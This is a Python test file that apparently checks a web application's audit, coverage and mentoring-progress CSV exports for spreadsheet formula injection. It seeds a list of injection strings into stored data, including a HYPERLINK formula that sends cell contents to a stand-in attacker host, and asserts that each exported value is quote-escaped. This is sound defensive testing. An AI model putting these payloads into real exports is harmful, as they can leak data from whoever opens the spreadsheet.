"""CSV injection through the real exports: a stored value that a spreadsheet would run
as a formula comes out of the audit log, coverage and mentoring-progress exports with
a ``'`` in front (the settlement export: ``tests/unit/test_csvsafe.py``)."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from network.accounts.tables import User
from network.audit.services import record
from network.directory.tables import Municipality
from network.kernel.context import Actor
from network.lib.vocab import MentoringStatus, Role
from network.mentoring.tables import LadderSignoff, MentoringRequest, MentorOffer
from tests.support import SharedApp, in_app, sign_in
from tests.support.people import create_user

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?q="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
NEUTRALISED = ["'" + p for p in PAYLOADS]
ADMIN = "csvsafe.admin@demo.invalid"  # county 21
ANALYST = "csvsafe.analyst@demo.invalid"  # county 23
COORDINATOR = "csvsafe.coordinator@demo.invalid"  # county 25
MENTOR = "csvsafe.mentor@demo.invalid"
JAMTLAND = ("2303", "2305", "2309", "2313", "2321", "2326")  # renamed for the test
LULEA = "2580"


@pytest.fixture(scope="module")
def people(migrated: None) -> dict[str, int]:
    async def create() -> dict[str, int]:
        ids = {
            ADMIN: await create_user(ADMIN, Role.ADMIN, county="21"),
            ANALYST: await create_user(ANALYST, Role.ANALYST, county="23"),
            COORDINATOR: await create_user(COORDINATOR, Role.COORDINATOR, county="25"),
            MENTOR: await create_user(MENTOR, Role.SPECIALIST, municipality=LULEA),
        }
        for index, payload in enumerate(PAYLOADS):
            await record(
                Actor(email=payload, client_addr=payload[:64]),
                "test.csv_payload",
                "consultation",
                payload,
                municipality="2161",
                county="21",
            )
            mentee = f"csvsafe.mentee{index}@demo.invalid"
            ids[mentee] = await create_user(mentee, Role.SOCIAL_WORKER, municipality=LULEA)
            await User.update({User.display_name: payload}).where(User.id == ids[mentee])
        return ids

    return asyncio.run(create())


@pytest.fixture
def client(people: dict[str, int], shared_app: SharedApp) -> TestClient[Litestar]:
    return shared_app.client()


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_audit_export(client: TestClient[Litestar]) -> None:
    sign_in(client, ADMIN)
    response = client.get("/api/v1/audit/export.csv")
    assert response.status_code == 200, response.text
    rows = sorted(
        (r for r in _csv(response.text) if r["action"] == "test.csv_payload"),
        key=lambda r: int(r["id"]),
    )
    assert [r["object_id"] for r in rows] == NEUTRALISED
    assert [r["actor_email"] for r in rows] == NEUTRALISED
    assert [r["client_addr"] for r in rows] == NEUTRALISED


@pytest.fixture
def renamed_municipalities(client: TestClient[Litestar]) -> Iterator[None]:
    async def rename(names: dict[str, str]) -> None:
        for code, name in names.items():
            await Municipality.update({Municipality.name: name}).where(Municipality.code == code)

    async def names() -> dict[str, str]:
        rows = await Municipality.select(Municipality.code, Municipality.name).where(
            Municipality.code.is_in(list(JAMTLAND))
        )
        return {r["code"]: r["name"] for r in rows}

    before = in_app(client, names)
    in_app(client, lambda: rename(dict(zip(JAMTLAND, PAYLOADS, strict=True))))
    try:
        yield
    finally:
        in_app(client, lambda: rename(before))


@pytest.mark.usefixtures("renamed_municipalities")
def test_the_coverage_export(client: TestClient[Litestar]) -> None:
    sign_in(client, ANALYST)
    response = client.get(
        "/api/v1/coverage",
        params={"county": "23", "area": "lvu_investigation"},
        headers={"Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    names = {r["municipality"]: r["municipality_name"] for r in _csv(response.text)}
    assert [names[code] for code in JAMTLAND] == NEUTRALISED


def test_the_mentoring_progress_export(
    client: TestClient[Litestar], people: dict[str, int]
) -> None:
    sign_in(client, COORDINATOR)
    programme = client.post(
        "/api/v1/mentoring/programmes",
        json={
            "name": "CSV-test Norrbotten",
            "county": "25",
            "start_date": "2026-08-01",
            "end_date": "2027-06-30",
            "steps": [PAYLOADS[0], "Egen handläggning"],
        },
    )
    assert programme.status_code == 201, programme.text
    cohort = client.post(
        f"/api/v1/mentoring/programmes/{programme.json()['id']}/cohorts",
        json={"name": "Höst", "start_date": "2026-08-15", "end_date": "2027-06-30"},
    )
    assert cohort.status_code == 201, cohort.text

    async def pair_everyone() -> None:
        place = await Municipality.select(Municipality.id).where(Municipality.code == LULEA)
        now = datetime.now(UTC)
        offer = MentorOffer(
            programme=programme.json()["id"],
            user=people[MENTOR],
            municipality=place[0]["id"],
            capacity=len(PAYLOADS),
            areas=["lvu_investigation"],
            created_at=now,
        )
        await offer.save()
        await User.update({User.display_name: PAYLOADS[1]}).where(User.id == people[MENTOR])
        for index in range(len(PAYLOADS)):
            request = MentoringRequest(
                programme=programme.json()["id"],
                cohort=cohort.json()["id"],
                mentee=people[f"csvsafe.mentee{index}@demo.invalid"],
                municipality=place[0]["id"],
                areas=["lvu_investigation"],
                status=MentoringStatus.MATCHED,
                offer=offer.id,
                created_at=now,
                matched_at=now,
            )
            await request.save()
            await LadderSignoff(
                request=request.id, step=1, signed_by=people[MENTOR], signed_at=now
            ).save()

    in_app(client, pair_everyone)
    response = client.get(
        f"/api/v1/mentoring/cohorts/{cohort.json()['id']}/progress", params={"format": "csv"}
    )
    assert response.status_code == 200, response.text
    rows = _csv(response.text)
    assert sorted(r["mentee"] for r in rows) == sorted(NEUTRALISED)
    assert {r["mentor"] for r in rows} == {NEUTRALISED[1]}
    assert {r["current_step"] for r in rows} == {NEUTRALISED[0]}
    assert {r["steps_signed"] for r in rows} == {"1"}
